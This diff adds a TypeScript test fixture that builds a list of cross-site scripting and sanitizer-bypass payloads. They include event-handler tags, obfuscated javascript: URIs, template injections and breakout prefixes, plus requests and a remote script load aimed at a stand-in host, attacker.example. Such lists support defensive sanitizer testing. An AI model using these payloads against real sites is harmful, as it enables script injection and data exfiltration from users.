@@ -1,0 +1,93 @@
+const run = "window.attacked=1";
+const away = "//attacker.example/stolen";
+
+/** What runs a script where it is read as HTML, an address, a style, or JSON. */
+const scripts = [
+  `<script>${run}</script>`,
+  `<script src=${away}></script>`,
+  `<img src=x onerror=${run}>`,
+  `<img src=x onerror="${run}">`,
+  `<svg onload=${run}></svg>`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
+  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
+  `<math href="javascript:${run}">x</math>`,
+  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
+  `<iframe src="javascript:parent.${run}"></iframe>`,
+  `<object data="javascript:${run}"></object>`,
+  `<embed src="javascript:${run}">`,
+  `<details open ontoggle=${run}>x</details>`,
+  `<video><source onerror=${run}></video>`,
+  `<audio src=x onerror=${run}></audio>`,
+  `<body onload=${run}>`,
+  `<input autofocus onfocus=${run}>`,
+  `<select autofocus onfocus=${run}></select>`,
+  `<marquee onstart=${run}>x</marquee>`,
+  `<a href="javascript:${run}">x</a>`,
+  `<a href="java\tscript:${run}">x</a>`,
+  `<a href="&#106;avascript:${run}">x</a>`,
+  `<form action="javascript:${run}"><button>x</button></form>`,
+  `<button formaction="javascript:${run}">x</button>`,
+  `<isindex action="javascript:${run}" type=submit>`,
+  `<p style="background:url(javascript:${run})">x</p>`,
+  `<p style="width:expression(${run})">x</p>`,
+  `<style>*{background:url("javascript:${run}")}</style>`,
+  `<template><script>${run}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
+  `<!--><img src=x onerror=${run}>-->`,
+  `<![CDATA[<img src=x onerror=${run}>]]>`,
+  `<xss onmouseover=${run} style="position:fixed;inset:0">x</xss>`,
+  `<p onpointerenter=${run}>x</p>`,
+  `javascript:${run}`,
+  `JaVaScRiPt:${run}`,
+  `\u0001javascript:${run}`,
+  `java\nscript:${run}`,
+  `javascript://attacker.example/%0a${run}`,
+  `vbscript:${run}`,
+  `data:text/html,<script>${run}</script>`,
+  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==`,
+  `blob:null/x`,
+  `\${${run}}`,
+  `{{constructor.constructor('${run}')()}}`,
+  `";${run};"`,
+  `');${run};('`,
+];
+
+/** What makes a browser ask another server where it is read as HTML, an address, or a style. */
+const requests = [
+  `<img src="${away}">`,
+  `<img srcset="${away} 1x">`,
+  `<link rel=stylesheet href="${away}">`,
+  `<link rel=prefetch href="${away}">`,
+  `<link rel=dns-prefetch href="${away}">`,
+  `<style>@import "${away}";</style>`,
+  `<p style="background:url(${away})">x</p>`,
+  `<video poster="${away}"></video>`,
+  `<iframe src="${away}"></iframe>`,
+  `<base href="https:${away}/">`,
+  `<meta http-equiv=refresh content="0;url=https:${away}">`,
+  `<body background="${away}">`,
+  `<table background="${away}"><tr><td>x`,
+  `<object data="${away}"></object>`,
+  `<embed src="${away}">`,
+  `<input type=image src="${away}">`,
+  `<svg><image href="${away}"/></svg>`,
+  `<svg><use href="${away}#x"/></svg>`,
+  `<audio src="${away}" autoplay></audio>`,
+  `<track src="${away}">`,
+  away,
+  `https:${away}`,
+  `/\\attacker.example/stolen`,
+  `https://owner:secret@attacker.example/`,
+  `url(${away})`,
+  `red;background:url(${away})`,
+];
+
+/** How what is around a text is left. */
+const breakouts = ["", `">`, "'>", "</script>", "</style>", "</textarea></title>", "\u2028\u0000\u202e"];
+
+/** 300 different texts, no two of the same kind in a row. */
+export const hostilePayloads: readonly string[] = [
+  ...new Set(breakouts.flatMap((before) => [...scripts, ...requests].map((attack) => before + attack))),
+].slice(0, 300);
